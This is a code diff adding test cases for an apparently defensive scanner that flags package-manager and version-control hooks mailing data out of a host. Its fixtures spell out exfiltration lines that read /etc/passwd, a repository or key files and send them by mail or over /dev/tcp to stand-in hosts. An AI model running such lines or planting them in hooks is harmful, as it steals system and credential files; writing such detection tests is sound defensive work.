@@ -52,6 +52,63 @@ test('the copy of a package manager that becomes the shell is not on record: the
   assert.ok((await told(log))?.factors.includes(HOOK));
 });
 
+test('words of other programs that look like the -c of a shell are none, and the shell of a hook may speak SMTP itself', async () => {
+  const toTwo = administrator();
+  const line = 'openssl base64 < /etc/passwd | mail -s x -c other@example.net drop@example.net';
+  const shell = toTwo.apt.run(['/bin/sh', '-c', line]);
+  shell.pipeline('/usr/bin/openssl base64', `/usr/bin/mail -s x -c other@example.net ${TO}`);
+  toTwo.log.submitted('root', TO, 40_000);
+  assert.ok((await told(toTwo.log))?.factors.includes(HOOK), 'a copy for another');
+
+  const itself = administrator();
+  const speaks = itself.apt.run(['/bin/bash', '-c', 'exec 3<>/dev/tcp/203.0.113.25/25; cat /etc/passwd >&3']);
+  speaks.connect('203.0.113.25', 25);
+  assert.ok((await told(itself.log))?.factors.includes(HOOK), 'the shell itself');
+});
+
+test('what a hook runs may have command lines of its own; what a person types into an editor of a hook is theirs', async () => {
+  const within = async (act: (hook: Process) => Process): Promise<boolean> => {
+    const { log, apt } = administrator();
+    const hook = act(apt.run(['/bin/sh', '-c', 'something || true']));
+    hook.pipeline('/usr/bin/openssl base64', `/usr/bin/mail -s x ${TO}`);
+    log.submitted('root', TO, 40_000);
+    return (await told(log))?.factors.includes(HOOK) === true;
+  };
+  const line = ['/bin/sh', '-c', `openssl base64 < /etc/passwd | mail -s x ${TO}`];
+  const script = (above: Process, by: string) => above.run('/root/bin/after', { by });
+  assert.ok(await within(hook => hook.run(line)), 'a shell in a shell');
+  assert.ok(await within(hook => script(hook, '/usr/bin/perl').run(line)), 'system(3) of a script');
+  assert.ok(
+    await within(hook => script(script(hook, '/bin/bash').run(line), '/usr/bin/python3').run(line)),
+    'of several',
+  );
+  assert.ok(!(await within(hook => hook.run('/usr/bin/vim /etc/notes').run(line))), 'an editor');
+});
+
+test('a hook of version control that is a script itself, and what only has its name', async () => {
+  const committed = async (hg: string): Promise<readonly string[]> => {
+    const log = new HostLog();
+    log.deliver();
+    const commit = log.shell('dev').run(`${hg} commit -m x`, { by: '/usr/bin/python3' });
+    const hook = commit.run(['/bin/sh', '-c', `tar c . | base64 | mail -s x ${TO}`]);
+    hook.pipeline('/usr/bin/tar c .', '/usr/bin/base64', `/usr/bin/mail -s x ${TO}`);
+    log.submitted('dev', TO, 40_000);
+    const [alert] = await scanLog(log);
+    return alert?.factors.filter(({ name }) => name === HOOK).map(({ evidence }) => evidence) ?? [];
+  };
+  assert.deepEqual(await committed('/usr/bin/hg'), ['hg']);
+  assert.deepEqual(await committed('/home/dev/bin/hg'), []);
+});
+
+test("system(3) of a package's own script is no hook", async () => {
+  const { log, apt } = administrator();
+  const script = apt.run('/usr/bin/dpkg --configure -a').run('/var/lib/dpkg/info/page.postinst', { by: '/bin/sh' });
+  const line = `openssl base64 < /etc/passwd | mail -s x ${TO}`;
+  script.run(['/bin/sh', '-c', line]).pipeline('/usr/bin/openssl base64', `/usr/bin/mail -s x ${TO}`);
+  log.submitted('root', TO, 40_000);
+  assert.ok(!(await told(log))?.factors.includes(HOOK));
+});
+
 test('a hook that mails a note to the administrator is what such hooks do', async () => {
   const { log, apt } = administrator();
   apt.run(['/bin/sh', '-c', '/usr/bin/apt-listchanges --apt']).run('/usr/sbin/sendmail root@example.org');
@@ -90,6 +147,28 @@ test('a recipe that only answers is mail software at its work', async () => {
   mail.exec(`/usr/sbin/sendmail -oi ${TO}`);
   log.submitted('clerk', TO, 3000);
   assert.equal(await told(log), null);
+});
+
+/** Mail software starts a program that packs a copy and sends the message on. `above` starts `words`; who sends is the last of them. */
+async function passedOn(above: string, words: string | readonly string[], by?: string) {
+  const log = new HostLog();
+  log.deliver();
+  const script = log.service(above).run(words, by === undefined ? {} : { by });
+  const [, mail] = script.pipeline('/usr/bin/gzip -c', `/usr/sbin/sendmail -G -i ${TO}`);
+  mail?.run('/usr/sbin/postdrop -r');
+  log.submitted('root', TO, 3000);
+  return told(log);
+}
+
+test('a program of the mail software that packs a copy of what it passes on sends nothing of its own', async () => {
+  const pipe = '/usr/lib/postfix/sbin/pipe -n filter';
+  const script = '/etc/postfix/keep-a-copy';
+  assert.equal(await passedOn(pipe, script), null, 'a program');
+  assert.equal(await passedOn(pipe, script, '/bin/sh'), null, 'a script');
+  const configured = '/usr/lib/dovecot/dovecot-lda -c /etc/dovecot/dovecot.conf';
+  assert.equal(await passedOn(configured, script, '/bin/sh'), null, 'below a program that has a -c of another kind');
+  const found = await passedOn(pipe, ['/bin/sh', '-c', `gzip -c keys | sendmail ${TO}`]);
+  assert.ok(found?.factors.includes(PACKED), 'a line of commands');
 });
 
 const BESIDE = 'again and again, beside somebody at a terminal';
